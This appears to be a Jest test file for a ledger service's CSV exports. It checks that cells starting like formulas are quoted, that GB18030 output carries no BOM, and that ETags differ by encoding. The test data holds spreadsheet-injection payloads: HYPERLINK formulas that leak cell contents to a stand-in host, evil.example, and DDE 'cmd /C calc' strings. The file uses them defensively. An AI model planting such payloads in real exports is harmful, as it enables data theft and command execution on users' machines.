/**
 * What the CSV exports do for the spreadsheets they are made for (issue 17):
 * a text cell that starts like a formula (`=`, `+`, `-`, `@`, tab, CR) goes
 * out behind a single quote, as OWASP advises, while ids, counts and amounts
 * stay plain numbers; and `encoding=gb18030` gives the same file in GB18030
 * without a BOM (LibreOffice and WPS ignore the BOM in some Chinese locales),
 * streamed page by page, with an ETag of its own.
 */
import { parse } from "csv-parse/sync";
import iconv from "iconv-lite";

import { createToken } from "../../src/auth/tokens";
import { CsvKind, csvRecord } from "../../src/export/csv";
import { DB_KINDS } from "../support/databases";
import { startTestServer, type TestServer } from "../support/test-server";
import { CREATE, CREATE_MEETING, send } from "../support/writes";

/** Reads CSV as RFC 4180 says (quoted fields may hold commas, doubled quotes and line breaks), insisting that every record ends in CRLF. */
function parseCsv(text: string): string[][] {
  if (text !== "" && !text.endsWith("\r\n")) throw new Error("CSV does not end with CRLF");
  return parse(text, { record_delimiter: "\r\n", relax_column_count: false });
}

interface Download {
  status: number;
  type: string | null;
  disposition: string | null;
  etag: string | null;
  body: Buffer;
}

async function download(server: TestServer, path: string, headers: Record<string, string> = {}): Promise<Download> {
  const res = await fetch(server.url.replace(/\/graphql$/, path), { headers });
  return {
    status: res.status,
    type: res.headers.get("content-type"),
    disposition: res.headers.get("content-disposition"),
    etag: res.headers.get("etag"),
    body: Buffer.from(await res.arrayBuffer()),
  };
}

const UTF8_BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/** The rows of a UTF-8 export, which must start with its BOM. */
function utf8Rows(csv: Download): string[][] {
  expect(csv.status).toBe(200);
  expect(csv.type).toBe("text/csv; charset=utf-8");
  expect(csv.body.subarray(0, 3)).toEqual(UTF8_BOM);
  return parseCsv(csv.body.subarray(3).toString("utf8"));
}

/** The rows of a GB18030 export, which must have no BOM of any kind. */
function gb18030Rows(csv: Download): string[][] {
  expect(csv.status).toBe(200);
  expect(csv.type).toBe("text/csv; charset=gb18030");
  expect(csv.body.subarray(0, 3)).not.toEqual(UTF8_BOM);
  const text = iconv.decode(csv.body, "gb18030", { stripBOM: false });
  expect(text.startsWith("\uFEFF")).toBe(false); // nor GB18030's own encoding of U+FEFF (84 31 95 33)
  return parseCsv(text);
}

const PROJECT_HEADER = ["id", "name", "region_code", "region_name", "city_code", "city_name", "sector_code", "sector_name", "top_sector_code", "stage", "investment", "investor", "synthetic", "version", "designed_annual_output", "output_year", "output", "reached_rate", "stage_name"];

describe("the CSV cell writer", () => {
  it("puts a quote before text that starts like a formula, and writes numbers as they are, negative ones too", () => {
    const columns = [
      { name: "id", kind: CsvKind.NUMBER },
      { name: "name", kind: CsvKind.TEXT },
      { name: "amount", kind: CsvKind.NUMBER },
      { name: "flag", kind: CsvKind.BOOLEAN },
    ];
    expect(csvRecord(columns, ["12", "=1+1", -3.5, false])).toBe("12,'=1+1,-3.5,false\r\n");
    expect(csvRecord(columns, [1, "-2+3", 0, true])).toBe("1,'-2+3,0,true\r\n");
    expect(csvRecord(columns, [1, "@SUM(A1)", 1, true])).toBe("1,'@SUM(A1),1,true\r\n");
    expect(csvRecord(columns, [1, '+cmd|" /C calc"!A0', 1, true])).toBe(`1,"'+cmd|"" /C calc""!A0",1,true\r\n`);
    expect(csvRecord(columns, [1, "\t=1", 1, true])).toBe("1,'\t=1,1,true\r\n");
    expect(csvRecord(columns, [1, "\r=1", 1, true])).toBe(`1,"'\r=1",1,true\r\n`);
    expect(csvRecord(columns, [1, "郑州市 A-1 =2", null, undefined])).toBe("1,郑州市 A-1 =2,,\r\n");
    // A number column refuses what is not a number rather than writing it unguarded.
    expect(() => csvRecord(columns, ["=1+1", "x", 1, true])).toThrow(/id holds numbers/);
    expect(() => csvRecord(columns, [1, "x", 1])).toThrow(/3 values for 4 columns/);
  });
});

describe.each(DB_KINDS)("CSV exports for spreadsheets on %s", (kind) => {
  let server: TestServer;
  let province: string;
  beforeAll(async () => {
    server = await startTestServer(kind, { DATA_VERSION_TTL_MS: "0" });
    province = (await createToken(server.db, { regionCode: "410000", name: "河南省发展和改革委员会" })).token;
  });
  afterAll(async () => server?.close());

  let serial = 0;
  async function createProject(input: Record<string, unknown>): Promise<any> {
    const reply = await send(server, province, CREATE, { input: { regionCode: "410102", sectorCode: "MFG", investment: 1.2345, reachedOn: "2024-03-01", ...input } });
    expect(reply.errors).toBeUndefined();
    return reply.data.createProject;
  }

  describe("text cells that start like a formula", () => {
    /** Each character that starts a formula, with a project name and an investor that start with it. */
    const payloads = ["=", "+", "-", "@"].map((c) => ({
      c,
      name: `${c}HYPERLINK("http://evil.example/?leak="&A1,"点击") ${kind} #${++serial}`,
      investor: `${c}cmd|' /C calc'!A0`,
    }));
    let meeting: { id: string; title: string };
    const created: Array<{ project: any; name: string; investor: string }> = [];
    let ordinary: any;

    beforeAll(async () => {
      const title = `=HYPERLINK("http://evil.example/","推进会") ${kind}`;
      const reply = await send(server, province, CREATE_MEETING, { input: { title, heldOn: "2024-06-30", hostRegionCode: "410100" } });
      expect(reply.errors).toBeUndefined();
      meeting = reply.data.createMeeting;
      expect(meeting.title).toBe(title);
      for (const p of payloads) {
        const project = await createProject({ name: p.name, investor: p.investor, meetingId: meeting.id, venueRegionCode: "410100" });
        expect([project.name, project.investor]).toEqual([p.name, p.investor]); // stored as given
        created.push({ project, name: p.name, investor: p.investor });
      }
      // Tab and CR are control characters, which the ledger refuses in names and investors...
      const refused = await send(server, province, CREATE, { input: { name: "\t=1+1", regionCode: "410102", sectorCode: "MFG", investment: 1, reachedOn: "2024-03-01" } });
      expect(refused.errors?.map((e) => e.extensions?.code)).toEqual(["BAD_USER_INPUT"]);
      // ...but a database written by other means may hold them: such rows are put in with SQL.
      for (const c of ["\t", "\r"]) {
        const project = await createProject({ name: `控制符 ${kind} #${++serial}`, investor: "河南投资集团", meetingId: meeting.id, venueRegionCode: "410100" });
        const name = `${c}=HYPERLINK("http://evil.example/","y") ${kind} #${serial}`;
        const investor = `${c}@SUM(1+1)*cmd|' /C calc'!A0`;
        await server.db.query("UPDATE project SET name = ?, investor = ? WHERE id = ?", [name, investor, Number(project.id)]);
        created.push({ project, name, investor });
      }
      ordinary = await createProject({ name: `普通项目 A-1 =2 ${kind}`, investor: "河南投资集团", meetingId: meeting.id, venueRegionCode: "410100" });
    });

    it("go out in projects.csv behind a single quote, numbers and ordinary text as they were", async () => {
      const [header, ...rows] = utf8Rows(await download(server, "/export/projects.csv?regionCodes=410102"));
      expect(header).toEqual(PROJECT_HEADER);
      const byId = new Map(rows.map((r) => [r[0], r]));
      for (const { project, name, investor } of created) {
        const row = byId.get(project.id)!;
        expect(row).toBeDefined();
        expect(row[1]).toBe(`'${name}`);
        expect(row[11]).toBe(`'${investor}`);
        expect([...row[1]][1]).toBe(name[0]); // the dangerous character itself is kept, after the quote
        // Numbers stay numbers: id, investment (亿元), version.
        expect(row[0]).toMatch(/^\d+$/);
        expect(row[10]).toMatch(/^\d+(\.\d+)?$/);
        expect(Number(row[10])).toBe(project.investment);
        expect(row[13]).toBe(String(project.version));
        expect(row[12]).toBe("false");
        expect(row.slice(2, 10)).toEqual(["410102", "中原区", "410100", "郑州市", "MFG", expect.any(String), expect.any(String), "SIGNED"]);
      }
      // Text that only holds such characters further in is left alone.
      const plain = byId.get(ordinary.id)!;
      expect(plain[1]).toBe(ordinary.name);
      expect(plain[11]).toBe("河南投资集团");
      // No text cell of the export starts like a formula.
      const textColumns = [1, 2, 3, 4, 5, 6, 7, 8, 9, 11];
      expect(rows.filter((r) => textColumns.some((i) => /^[=+\-@\t\r]/.test(r[i])))).toEqual([]);
    });

    it("go out in breakdown.csv behind a single quote: a meeting's title, its counts and totals as numbers", async () => {
      const [header, ...rows] = utf8Rows(await download(server, `/export/breakdown.csv?groupBy=MEETING,STAGE&meetingId=${meeting.id}`));
      expect(header).toEqual(["meeting_id", "meeting_title", "meeting_held_on", "stage", "stage_name", "project_count", "total_investment"]);
      const { data } = await server.gql(`query($m: ID!) { breakdown(groupBy: [MEETING, STAGE], filter: { meetingId: $m }) { meeting { id title heldOn } stage projectCount totalInvestment } }`, { m: meeting.id });
      expect(data.breakdown.map((r: any) => r.projectCount)).toEqual([created.length + 1]); // every project above, all signed there
      expect(rows).toEqual(data.breakdown.map((r: any) => [r.meeting.id, `'${r.meeting.title}`, r.meeting.heldOn, r.stage, { SIGNED: "签约", STARTED: "开工", IN_PRODUCTION: "投产" }[r.stage as string], String(r.projectCount), String(r.totalInvestment)]));
      expect(rows[0][1]).toBe(`'${meeting.title}`);
      expect(rows[0][0]).toMatch(/^\d+$/);
    });
  });

  describe("encoding=gb18030", () => {
    let odd: any;
    beforeAll(async () => {
      // A character outside the BMP (a surrogate pair in JS, four bytes in GB18030) and signs GBK lacks.
      odd = await createProject({ name: `𠮷野家 € ${kind} #${++serial}`, investor: "郑州𠮷祥 ™" });
    });

    it("sends the project list in GB18030 without a BOM, row for row what the UTF-8 export holds, across pages", async () => {
      const utf8 = await download(server, "/export/projects.csv?orderBy=NAME");
      const gb = await download(server, "/export/projects.csv?orderBy=NAME&encoding=gb18030");
      expect(gb.disposition).toBe('attachment; filename="projects.csv"');
      const rows = gb18030Rows(gb);
      expect(rows).toEqual(utf8Rows(utf8));
      expect(rows.length - 1).toBeGreaterThan(1000); // more than one page of the export, each encoded on its own
      expect(rows.find((r) => r[0] === odd.id)?.[1]).toBe(odd.name);
      expect(rows.find((r) => r[0] === odd.id)?.[11]).toBe("郑州𠮷祥 ™");
      expect(rows.some((r) => r[5] === "郑州市")).toBe(true);
      // The bytes are GB18030's (郑州市 is D6A3 D6DD CAD0), not UTF-8's.
      expect(gb.body.includes(iconv.encode("郑州市", "gb18030"))).toBe(true);
      expect(gb.body.includes(Buffer.from("郑州市", "utf8"))).toBe(false);
    });

    it("sends a breakdown in GB18030 too, with the same rows", async () => {
      const path = "/export/breakdown.csv?groupBy=REGION,SECTOR&regionLevel=CITY";
      const gb = await download(server, `${path}&encoding=gb18030`);
      expect(gb.disposition).toBe('attachment; filename="breakdown-city-sector.csv"');
      const rows = gb18030Rows(gb);
      expect(rows).toEqual(utf8Rows(await download(server, path)));
      expect(rows.find((r) => r[0] === "410100")?.[1]).toBe("郑州市");
    });

    it("is UTF-8 with a BOM by default and when asked for explicitly; the name's case does not matter", async () => {
      for (const path of ["/export/projects.csv?regionCodes=410102", "/export/breakdown.csv?groupBy=STAGE"]) {
        const plain = await download(server, path);
        const explicit = await download(server, `${path}&encoding=utf-8`);
        expect(utf8Rows(explicit)).toEqual(utf8Rows(plain));
        expect(explicit.body).toEqual(plain.body);
        const upper = await download(server, `${path}&encoding=GB18030`);
        expect(upper.body).toEqual((await download(server, `${path}&encoding=gb18030`)).body);
      }
    });

    it.each([
      ["/export/projects.csv?encoding=latin1", "latin1"],
      ["/export/breakdown.csv?groupBy=REGION&encoding=gbk", "gbk"],
      ["/export/breakdown.csv?encoding=utf-16", "utf-16"],
    ])("%s is a 400 naming the parameter", async (path, value) => {
      const csv = await download(server, path);
      expect(csv.status).toBe(400);
      expect(csv.type).toMatch(/^text\/plain/);
      expect(csv.disposition).toBeNull();
      expect(csv.body.toString("utf8")).toContain(`encoding: must be one of utf-8, gb18030 (got "${value}")`);
    });

    it("has an ETag of its own: a conditional GET is 304 only with the ETag of the same encoding", async () => {
      for (const path of ["/export/projects.csv?regionCodes=419001", "/export/breakdown.csv?groupBy=SECTOR"]) {
        const utf8 = await download(server, path);
        const gb = await download(server, `${path}&encoding=gb18030`);
        expect(utf8.etag).toBeTruthy();
        expect(gb.etag).toBeTruthy();
        expect(gb.etag).not.toBe(utf8.etag);
        expect((await download(server, `${path}&encoding=gb18030`, { "if-none-match": gb.etag! })).status).toBe(304);
        const other = await download(server, `${path}&encoding=gb18030`, { "if-none-match": utf8.etag! });
        expect(other.status).toBe(200);
        expect(other.body).toEqual(gb.body);
        expect((await download(server, path, { "if-none-match": gb.etag! })).status).toBe(200);
      }
    });
  });
});
